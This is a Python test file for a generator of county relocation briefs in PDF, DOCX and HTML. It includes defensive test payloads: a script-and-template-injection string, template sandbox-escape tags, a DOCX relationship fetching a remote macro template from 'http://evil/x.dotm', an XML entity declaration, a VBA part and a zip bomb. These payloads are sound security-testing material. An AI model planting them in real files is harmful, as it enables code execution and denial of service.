"""The brief on paper: one side however much there is to say, the same bytes each time, and no template or name that does anything."""

import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO
from itertools import pairwise
from pathlib import Path

import pypdfium2
import pytest
from docx import Document

from relocation.intake.refusal import Unusable
from relocation.reports.brief_template import brief_template
from relocation.reports.county_picture import county_picture, laid, moved_apart
from relocation.service import Trouble
from relocation.service.briefing import files, telling
from relocation.service.briefing.contract import Answer, Brief, Case, Change, Decision, Figure, Since
from relocation.service.briefing.questions import QUESTIONS, pick

DAY = date(2019, 12, 31)
AT = datetime(2020, 1, 2, 8, tzinfo=UTC)
OUTLINE = (((114.6, 31.7), (115.1, 31.7), (115.1, 32.2), (114.6, 32.2), (114.6, 31.7)),)
HOSTILE = '<script>alert(1)</script>{{ 7*191 }}{% for x in y %}#eval("1")\\u0000 & "quoted" \x0b'
EVERY_FORM = ("pdf", "docx", "html")


def figure(id: str, label: str, value: float, unit: str = "户") -> Figure:
    return Figure(id, label, value, unit, f"{value:,.0f} {unit}", DAY)


def made(lang: str = "zh", *, much: int = 1, name: str = "光山县（演示）", who: str = "甲乡 演＊＊（H1）") -> Brief:
    """Return a brief with every question failing, `much` times as long as one of a quiet county."""
    said = ("建筑面积 120 平方米，核定 4 人，人均 30 平方米，超过 25 平方米；" if lang == "zh" else "120 m² of building area for 4 approved persons; ") * much
    answers = tuple(
        Answer(
            one.id, pick(one.words, lang), "fail", tuple(figure(f"{one.id}.{n}", "不合规" if lang == "zh" else "fail", 12_345 + n) for n in range(2 + min(much, 3))),
            tuple(Case("household", f"H{n}", who, said, "fail", "/findings", (114.7 + at / 50, 31.9), at + 1 if n == 0 else None) for n in range(3)), 40 * much, 9,
        )
        for at, one in enumerate(QUESTIONS)
    )  # fmt: skip
    changes = tuple(Change(id, figure(f"since.{id}", id, 90), (said,) * 5) for id in ("new", "gone", "closed"))
    decided = tuple(Decision(id, figure(f"ledger.{id}", id, 30), "县级搬迁工作领导小组", (said,) * 4) for id in ("overdue", "submitted", "asked", "review"))
    return Brief(
        "411522", name, lang, DAY, DAY, AT, AT, judged_anew=False, stale=False, places=(), answers=answers, since=Since("brief", AT, changes), decisions=decided,
        assumptions=(said,), sources=(said,) * (4 * much), outline=OUTLINE, sites=((114.8, 31.9),), map_source="示意图",
        totals=(figure("register.households", "登记", 1_274),),
    )  # fmt: skip


def text_of(form: str, content: bytes) -> str:
    """Return all text of a file as its reader sees it."""
    if form == "pdf":
        document = pypdfium2.PdfDocument(content)
        return "".join(page.get_textpage().get_text_bounded() for page in document)
    if form == "html":
        return content.decode()
    document = Document(BytesIO(content))
    cells = [cell for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(paragraph.text for part in (document, *cells) for paragraph in part.paragraphs)


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("much", [1, 12])
def test_a_brief_is_one_side_of_paper_however_much_there_is_to_say(lang: str, much: int):
    pdf = pypdfium2.PdfDocument(files.written(made(lang, much=much), "pdf"))
    assert len(pdf) == 1
    assert [round(edge) for edge in pdf[0].get_size()] == [595, 842]  # A4 in points
    said = pdf[0].get_textpage().get_text_bounded()
    assert sum(pick(one.words, lang)[:8] in said.replace("\r\n", "") for one in QUESTIONS) >= 14  # a heading may break over a line
    assert "12,345" in said


@pytest.mark.parametrize("form", EVERY_FORM)
def test_the_same_brief_is_the_same_file_byte_for_byte(form: str):
    assert files.written(made(), form) == files.written(made(), form)


@pytest.mark.parametrize("form", EVERY_FORM)
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_hostile_name_stands_as_it_is_written_and_does_nothing(form: str, lang: str):
    content = files.written(made(lang, name=HOSTILE, who=HOSTILE), form)
    said = text_of(form, content)
    assert "1337" not in said  # 7*191: nothing was computed
    if form == "html":
        assert "<script" not in said
        assert "&lt;script&gt;" in said
    else:
        assert "<script>alert(1)</script>{{ 7*191 }}" in re.sub(r"\s+", " ", said)


def test_the_file_for_a_stick_needs_nothing_from_anywhere():
    page = files.written(made(), "html").decode()
    assert not re.search(r"(?:src|href)=[\"'](?!data:)", page)
    assert "@page" in page


def test_the_word_document_names_a_chinese_font_and_no_moment():
    content = files.written(made(), "docx")
    with zipfile.ZipFile(BytesIO(content)) as package:
        assert {entry.date_time for entry in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert 'w:eastAsia="Microsoft YaHei"' in package.read("word/styles.xml").decode()
    document = Document(BytesIO(content))
    assert document.core_properties.title == "光山县（演示）易地扶贫搬迁工作简报"
    assert document.core_properties.modified.year == 2016
    assert len(document.inline_shapes) == 1  # the map


def template(tmp_path: Path, *lines: str, name: str = "本县模板.docx") -> Path:
    document = Document()
    for line in ("{{ title }}", *lines):
        document.add_paragraph(line)
    document.save(str(tmp_path / name))
    return tmp_path / name


def test_a_countys_own_template_is_filled_and_a_changed_copy_of_the_programs_too(tmp_path: Path):
    own = template(
        tmp_path, "本县内部资料", "{%p for one in answers %}", "{{ one.heading }}|{% for each in one.figures %}{{ each.said }};{% endfor %}", "{%p endfor %}"
    )
    said = text_of("docx", files.written(made(), "docx", own))
    assert "本县内部资料" in said
    assert "哪些户人均超过 25 平方米？|不合规 12,345 户;" in said
    (tmp_path / "原样.docx").write_bytes(brief_template())
    assert files.written(made(), "docx", tmp_path / "原样.docx") == files.written(made(), "docx")


@pytest.mark.parametrize(
    ("lines", "code", "tag", "place"),
    [
        (["第二段", "{{ titel }}"], "template-unknown", "titel", 3),
        (["{{ totals[0].shwon }}"], "template-unknown", "shwon", 2),
        (["{% for one in answers %}", "{{ one.heading }}"], "template-syntax", "for one in answers", 2),
        (["{% endfro %}"], "template-syntax", "endfro", 2),
        (["{{ below", "{%p for one in answers %}", "{{ one.heading }}", "{%p endfor %}"], "template-half", "{{ below", 2),
        (["{%p for one in answers %}", "one.heading }}", "{%p endfor %}"], "template-half", "one.heading }}", 3),
        (["{{ title. }}"], "template-syntax", "title.", 2),
        (["{{ title.__class__.__mro__ }}"], "template-forbidden", "__class__", 2),
        (["{{ title.upper() }}"], "template-forbidden", "upper", 2),
        (["{{ map.__html__() }}"], "template-forbidden", "map", 2),
        (["{{ 'a' * 999999999 }}"], "template-forbidden", "999999999", 2),
        (["{% for x in range(9999999) %}{% endfor %}"], "template-forbidden", "range", 2),
        (["{% set x = title %}"], "template-forbidden", "set", 2),
        (["{% include 'secret' %}"], "template-forbidden", "include", 2),
        (["{{ title | safe }}"], "template-forbidden", "safe", 2),
    ],
)
def test_a_tag_that_cannot_be_used_is_named_with_its_place_and_a_mend(tmp_path: Path, lines: list[str], code: str, tag: str, place: int):
    with pytest.raises(Trouble) as refused:
        files.written(made(), "docx", template(tmp_path, *lines))
    assert refused.value.code == code
    assert tag in str(refused.value.facts["tag"])
    assert refused.value.facts["place"] == place
    for lang in ("zh", "en"):
        said = refused.value.reason(lang)
        assert tag in said
        assert "本县模板.docx" in said
        assert "word/document.xml" in said
        assert refused.value.mend(lang)


def packed(path: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    """Write the program's template with some parts changed."""
    with zipfile.ZipFile(BytesIO(brief_template())) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return path


def outside(parts: dict[str, bytes]) -> None:
    rel = b'<Relationship Id="rIdX" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(b"</Relationships>", rel)


def entities(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = b'<!DOCTYPE x [<!ENTITY a "b">]>' + parts["word/document.xml"].partition(b"?>")[2]


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (outside, "template-active"),
        (entities, "template-active"),
        (lambda parts: parts.update({"word/vbaProject.bin": b"x"}), "template-active"),
        (lambda parts: parts.pop("word/document.xml"), "template-not-word"),
        (lambda parts: parts.update({"word/notes.xml": b"<a>" + bytes(range(65, 91)) * 90_000 + b"</a>"}), "template-long"),
    ],
)
def test_a_template_that_holds_more_than_a_page_is_not_opened(tmp_path: Path, change: Callable[[dict[str, bytes]], None], code: str):
    with pytest.raises((Trouble, Unusable)) as refused:
        files.written(made(), "docx", packed(tmp_path / "模板.docx", change))
    found = refused.value
    assert (found.refusal.code if isinstance(found, Unusable) else found.code if isinstance(found, Trouble) else "") in (code, "zip-ratio")


def test_a_bomb_and_what_is_no_word_file_are_refused_before_anything_opens_them(tmp_path: Path):
    bomb = packed(tmp_path / "炸弹.docx", lambda parts: parts.update({"word/media/x.bin": bytes(30 * 1024 * 1024)}))
    with pytest.raises(Unusable) as refused:
        files.written(made(), "docx", bomb)
    assert refused.value.refusal.code in ("zip-bomb", "zip-ratio")
    (tmp_path / "模板.docx").write_text("这不是 Word 文档", "utf-8")
    with pytest.raises(Trouble) as plain:
        files.written(made(), "docx", tmp_path / "模板.docx")
    assert plain.value.code == "template-not-word"
    with pytest.raises(Unusable):
        files.written(made(), "docx", tmp_path / "没有.docx")


def test_less_room_says_less_and_how_much_is_left_out():
    brief = made(much=3)
    sheets = [telling.told(brief, room) for room in telling.ROOMS]
    letters = [len(str(sheet["answers"])) for sheet in sheets[3:]]
    assert all(more >= less for more, less in pairwise(letters))
    one = telling.told(brief, telling.Room(1, 20, 1, 2))["answers"][0]
    assert (len(one["cases"]), one["more"]) == (1, "另有 119 项，见核查结果")
    assert one["cases"][0]["said"].endswith("…")
    assert len(one["cases"][0]["said"]) == 20


def test_what_is_known_to_be_nothing_is_left_out_and_what_nobody_knows_is_said():
    quiet = replace(made().answers[0], figures=(figure("a.fail", "不合规", 0), replace(figure("a.x", "合计", 0), value=None, shown="无数据")))
    said = telling.told(replace(made(), answers=(quiet,)))["answers"][0]["figures"]
    assert [one["said"] for one in said] == ["合计 无数据"]


def test_north_is_up_and_no_mark_lies_on_another():
    sheet = laid([point for ring in OUTLINE for point in ring], 340, 300)
    (west_x, north_y), (east_x, south_y) = sheet.at((114.6, 32.2)), sheet.at((115.1, 31.7))
    assert west_x < east_x
    assert north_y < south_y
    spots = moved_apart([(100.0, 100.0)] * 12, sheet)
    assert all((a - c) ** 2 + (b - d) ** 2 >= 17**2 for at, (a, b) in enumerate(spots) for c, d in spots[:at])
    assert all(0 < x < 340 and 0 < y < 300 for x, y in spots)


def test_a_county_without_outline_or_sites_has_an_empty_picture():
    assert county_picture((), (), ()).endswith("</svg>")
    assert "circle" not in county_picture((), (), ())
    assert county_picture(OUTLINE, [(114.8, 31.9)], [(7, (114.8, 31.9))]).count(">7</text>") == 1


@pytest.mark.parametrize("form", EVERY_FORM)
def test_a_county_of_which_no_place_is_known_has_its_brief_all_the_same(form: str):
    nowhere = tuple(replace(one, worst=tuple(replace(case, at=None, mark=None) for case in one.worst)) for one in made().answers)
    assert "12,345" in text_of(form, files.written(replace(made(), answers=nowhere, outline=(), sites=()), form))
